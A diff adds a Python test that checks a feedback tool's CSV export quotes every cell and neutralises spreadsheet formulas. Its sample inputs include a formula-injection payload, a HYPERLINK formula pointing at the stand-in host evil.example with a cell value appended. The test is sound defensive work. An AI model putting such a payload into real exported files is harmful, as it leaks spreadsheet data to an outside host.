@@ -132,3 +132,24 @@ def test_bad_arguments_and_a_missing_database_are_one_line(
     assert result.returncode == 1
     assert result.stderr.startswith(message) and result.stderr.count("\n") == 1, result.stderr
     assert "Traceback" not in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "\t=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\r=2"]
+
+
+def test_the_csv_neutralises_spreadsheet_formulas_and_quotes_every_cell(tmp_path: Path) -> None:
+    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
+    for message, question in enumerate(FORMULAS, start=1):
+        feedback.record(1, message, question=question, outcome="refused", lang="nl")
+    out = io.StringIO()
+    stats.write_csv(stats.build(feedback, 7), out)
+    written = out.getvalue()
+    rows = list(csv.reader(io.StringIO(written, newline="")))
+    quoted = io.StringIO()
+    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(rows)
+    assert quoted.getvalue() == written  # every cell quoted
+    items = [r[1] for r in rows if r[0] == "unanswered"]
+    assert len(items) == len(FORMULAS)
+    for item in items:  # what a spreadsheet would run starts with a quote, after any leading space or tab
+        assert item.startswith("'") and item[1:].lstrip()[0] in "=+-@", item
+    assert next(i for i in items if "HYPERLINK" in i).startswith("'=HYPERLINK(")
